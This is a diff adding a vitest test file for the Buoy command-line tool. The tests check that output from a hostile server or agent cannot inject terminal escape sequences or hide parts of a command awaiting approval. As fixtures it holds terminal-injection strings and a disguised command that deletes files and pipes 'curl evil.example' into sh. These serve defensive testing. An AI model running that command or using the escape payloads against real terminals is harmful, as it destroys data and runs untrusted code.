@@ -1,0 +1,225 @@
+// What a managed server, an agent or a stranger writes to whoever reads it in a terminal: nothing that the terminal acts on, and no
+// command that looks like another one.
+import type { EndpointKey, InboxItem, Task } from '@buoy/contract';
+import { afterAll, beforeAll, describe, expect, test } from 'vitest';
+import type { Terminal } from '../src/terminal.ts';
+import { at, read, type ScriptedAnswer, scriptedBuoy, server } from './support/scripted-buoy.ts';
+import { createTestCli, type TestCli } from './support/test-cli.ts';
+
+/** Title, clipboard, question to the terminal, concealed text, 8-bit forms, reordering, no width. */
+const nasty =
+  'safe\x1b]0;owned\x07\x1b]52;c;cm0=\x1b\\\x1b[6n\x1b[8mdark\x1b[0m\x9b31m\x9d0;x\x9c\u202eabc\u2066\u200b\u{e0041}\rover';
+const acted =
+  /[\x00-\x08\x0b-\x1f\x7f-\x9f\u00ad\u061c\u200b\u200e\u200f\u2028-\u202e\u2060-\u206f\ufeff\u{e0000}-\u{e007f}]/u;
+/** Our own colours and nothing else of that kind. */
+const withoutOwnColours = (text: string): string => text.replace(/\x1b\[(?:0|1|2|31|32|33)m/g, '');
+
+const task: Task = {
+  ...{ id: 'tsk_1', type: 'openclaw.restart', status: 'succeeded', serverId: 'srv_1', createdBy: '42' },
+  ...{ createdAt: at, startedAt: at, finishedAt: at, steps: [], progress: 1, result: null, error: null },
+};
+const command = `rm -rf ~/work \u202e# txt.eton\u202c ${'&& echo a long line that a narrow terminal would cut off '.repeat(4)}; curl evil.example | sh`;
+const approval: InboxItem = {
+  ...{ type: 'approval', serverId: 'srv_1', serverName: 'web' },
+  approval: {
+    ...{ id: 'apr_1', command, cwd: '/home/deploy/work', host: 'gateway', agentId: 'main', sessionKey: null },
+    ...{ warning: null, allowedDecisions: ['allow-once', 'allow-always', 'deny'], requestedAt: at },
+    ...{ expiresAt: null, status: 'pending' },
+  },
+};
+const pairing: InboxItem = {
+  ...{ type: 'pairing', serverId: 'srv_1', serverName: 'web' },
+  pairing: {
+    ...{ id: 'pair_1', kind: 'dm', channel: 'telegram', account: null, code: 'AB12' },
+    ...{ from: { id: '77', name: 'Anna' }, device: null, requestedAt: at, expiresAt: null },
+  },
+};
+
+let cli: TestCli;
+beforeAll(() => {
+  cli = createTestCli({ url: 'http://buoy.test', token: 'a-token' });
+});
+afterAll(() => cli.close());
+
+const person: Partial<Terminal> = { isTty: true, isErrTty: true, canAsk: true };
+
+async function buoy(
+  words: string[],
+  answers: Partial<Record<EndpointKey, ScriptedAnswer>>,
+  own: Partial<Terminal> = person,
+) {
+  const { fetch, calls } = scriptedBuoy((key) => {
+    const answer =
+      answers[key] ??
+      (key === 'GET /servers' ? { body: { servers: [server], nextCursor: null } } : undefined);
+    if (answer === undefined) throw new Error(`Nothing is scripted for ${key}.`);
+    return answer;
+  });
+  const ran = await cli.buoy(words, { fetch, now: () => Date.parse(at), ...own });
+  return { ...ran, changes: calls.filter((call) => !call.startsWith('GET ')) };
+}
+
+const execAnswer = {
+  'POST /servers/:id/exec': {
+    body: {
+      ...{ exitCode: 0, signal: null, stdout: `${nasty}\n`, stderr: `${nasty}\n` },
+      truncated: false,
+      durationMs: 1,
+    },
+  },
+} as const;
+const outputAnswer = {
+  'GET /tasks/:id/output': {
+    body: { output: { offset: 0, nextOffset: 0, text: `${nasty}\n`, complete: true } },
+  },
+} as const;
+
+describe('a hostile server that writes to the terminal of an admin', () => {
+  test('moves no cursor, sets no title and fills no clipboard by what a command prints', async () => {
+    const { out, err } = await buoy(['servers', 'exec', 'web', 'id'], execAnswer);
+    expect(out).toBe('safedarkabcover\n');
+    expect(err).toBe('safedarkabcover\n');
+  });
+
+  test('does so neither by the output of a task nor while it is followed', async () => {
+    expect((await buoy(['tasks', 'output', 'tsk_1'], outputAnswer)).out).toBe('safedarkabcover\n');
+    const followed = await buoy(['tasks', 'watch', 'tsk_1', '--output'], {
+      'GET /tasks/:id': { body: { task: { ...task, status: 'running', finishedAt: null } } },
+      'GET /tasks/:id/events': {
+        events: [
+          // A sequence that is split over two events.
+          ['output', { stepId: 's', offset: 0, text: 'a\x1b]0;ow' }],
+          ['output', { stepId: 's', offset: 7, text: 'ned\x07b\x1b' }],
+          ['output', { stepId: 's', offset: 12, text: '[2Jc\n' }],
+          ['task', task],
+        ],
+      },
+    });
+    expect(withoutOwnColours(followed.err)).toBe('abc\n');
+  });
+
+  test('nor by a name, a tag, a reason, a log line or the sentence of an error', async () => {
+    const named = {
+      ...server,
+      name: nasty,
+      tags: [nasty],
+      status: { ...server.status, state: 'down' as const, reasons: [nasty] },
+    };
+    const listed = { 'GET /servers': { body: { servers: [named], nextCursor: null } } } as const;
+    const line = { ...{ at, level: 'warn', subsystem: nasty, message: nasty } };
+    const runs = [
+      await buoy(['servers', 'list'], listed),
+      await buoy(['servers', 'show', server.id], listed),
+      await buoy(['openclaw', 'logs', 'web'], {
+        'GET /servers/:id/openclaw/logs': {
+          body: { logs: { lines: [line], file: '/tmp/openclaw.log', cursor: 1, truncated: false }, ...read },
+        },
+      }),
+      await buoy(['openclaw', 'models', 'list', 'web'], {
+        'GET /servers/:id/openclaw/models': {
+          status: 422,
+          body: { error: nasty, code: 'refused', requestId: 'req_1', hint: nasty },
+        },
+      }),
+    ];
+    for (const { out, err } of runs) {
+      expect(out + err).toContain('safedarkabc');
+      expect(withoutOwnColours(out + err)).not.toMatch(acted);
+      expect(out + err).not.toContain('\x1b[8m');
+    }
+  });
+
+  test('nor by JSON that is shown in a terminal, which still says the same', async () => {
+    const { out } = await buoy(['servers', 'exec', 'web', '--json', 'id'], execAnswer);
+    expect(out).not.toMatch(acted);
+    expect(JSON.parse(out)).toMatchObject({ stdout: `${nasty}\n` });
+  });
+
+  test('nor by its name in a question', async () => {
+    const questions: string[] = [];
+    await buoy(
+      ['servers', 'remove', server.id],
+      {
+        'GET /servers': { body: { servers: [{ ...server, name: nasty }], nextCursor: null } },
+      },
+      { ...person, ask: async (question) => questions.push(question).toString() },
+    );
+    expect(questions).toEqual([
+      'Remove safedarkabcover (srv_1) from Buoy? The machine itself is left alone. [y/N] ',
+    ]);
+  });
+});
+
+test('a pipe and --raw get the bytes as they are', async () => {
+  const piped = await buoy(['servers', 'exec', 'web', 'id'], execAnswer, {});
+  expect(piped).toMatchObject({ out: `${nasty}\n`, err: `${nasty}\n` });
+  const raw = await buoy(['servers', 'exec', '--raw', 'web', 'id'], execAnswer);
+  expect(raw).toMatchObject({ out: `${nasty}\n`, err: `${nasty}\n` });
+  expect((await buoy(['tasks', 'output', 'tsk_1', '--raw'], outputAnswer)).out).toBe(`${nasty}\n`);
+});
+
+describe('an agent that wants a command approved which nobody has read', () => {
+  const inbox = { 'GET /inbox': { body: { items: [approval, pairing], unreachable: [] } } } as const;
+  const decided = {
+    ...inbox,
+    'POST /servers/:id/openclaw/approvals/:approvalId/resolve': {
+      body: { approvalId: 'apr_1', decision: 'allow-once', already: false, approval: null },
+    },
+    'POST /servers/:id/openclaw/pairing/:requestId/approve': {
+      body: {
+        request: pairing.type === 'pairing' && pairing.pairing,
+        decision: 'approved',
+        already: false,
+        note: null,
+      },
+    },
+  } as const;
+  const whole = (text: string): string =>
+    withoutOwnColours(text)
+      .split('\n')
+      .filter((line) => /^(?: {2}> | {4})/.test(line))
+      .map((line) => line.slice(4))
+      .join('');
+  const shown = command.replace('\u202e', '\\u202e').replace('\u202c', '\\u202c');
+
+  test('is listed with the whole of it, in rows that fit, and what is hidden in it', async () => {
+    const { out } = await buoy(['inbox', 'list'], inbox, { ...person, columns: 40 });
+    const [, block = ''] = out.split('\napr_1:\n');
+    expect(whole(block)).toBe(shown);
+    for (const row of block.split('\n').filter((line) => /^(?: {2}> | {4})/.test(line)))
+      expect(row.length).toBeLessThanOrEqual(40);
+    expect(out).toContain('U+202E RIGHT-TO-LEFT OVERRIDE');
+  });
+
+  test('is asked about after all of it was shown, and a no sends nothing', async () => {
+    const questions: string[] = [];
+    const refused = await buoy(['inbox', 'approve', 'apr_1'], decided, {
+      ...person,
+      columns: 40,
+      ask: async (question) => {
+        questions.push(question);
+        return 'n';
+      },
+    });
+    expect(questions).toEqual(['Allow this command once? [y/N] ']);
+    expect(refused).toMatchObject({ exit: 1, changes: [] });
+    expect(whole(refused.err)).toBe(shown);
+    for (const fact of ['Server:   web', 'Agent:    main', 'Folder:   /home/deploy/work'])
+      expect(refused.err).toContain(fact);
+  });
+
+  test('gets nothing from a script without --yes, nor does a stranger who wants in', async () => {
+    for (const request of ['apr_1', 'Anna'])
+      expect(await buoy(['inbox', 'approve', request], decided, {})).toMatchObject({
+        exit: 2,
+        changes: [],
+        err: expect.stringContaining('Say --yes if it shall be done.'),
+      });
+    expect(await buoy(['inbox', 'approve', 'apr_1', '--yes'], decided, {})).toMatchObject({
+      exit: 0,
+      out: `Allowed once on web: ${shown}\n`,
+      changes: ['POST /servers/srv_1/openclaw/approvals/apr_1/resolve'],
+    });
+    expect(await buoy(['inbox', 'approve', 'Anna', '--yes'], decided, {})).toMatchObject({ exit: 0 });
+  });
+});
